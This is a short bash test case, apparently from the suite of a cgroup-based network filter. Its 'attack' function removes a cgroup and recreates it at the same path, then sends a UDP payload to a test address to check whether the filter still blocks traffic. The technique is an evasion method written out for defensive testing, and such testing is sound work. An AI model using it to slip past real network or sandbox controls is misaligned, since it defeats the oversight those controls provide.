# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The cgroup removed and made again at the same path'
origin='RESEARCH §2.76'
reason='not_resolved'
forms=output
# The rules know a cgroup by its id; the gate notices the new one at once.
attack() {
    if gate_on; then
        h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0"' "$CGROUPS$CGROUP" || return
        rest 50
    fi
    tool send.py udp 198.18.3.66 9999 "$1"
}
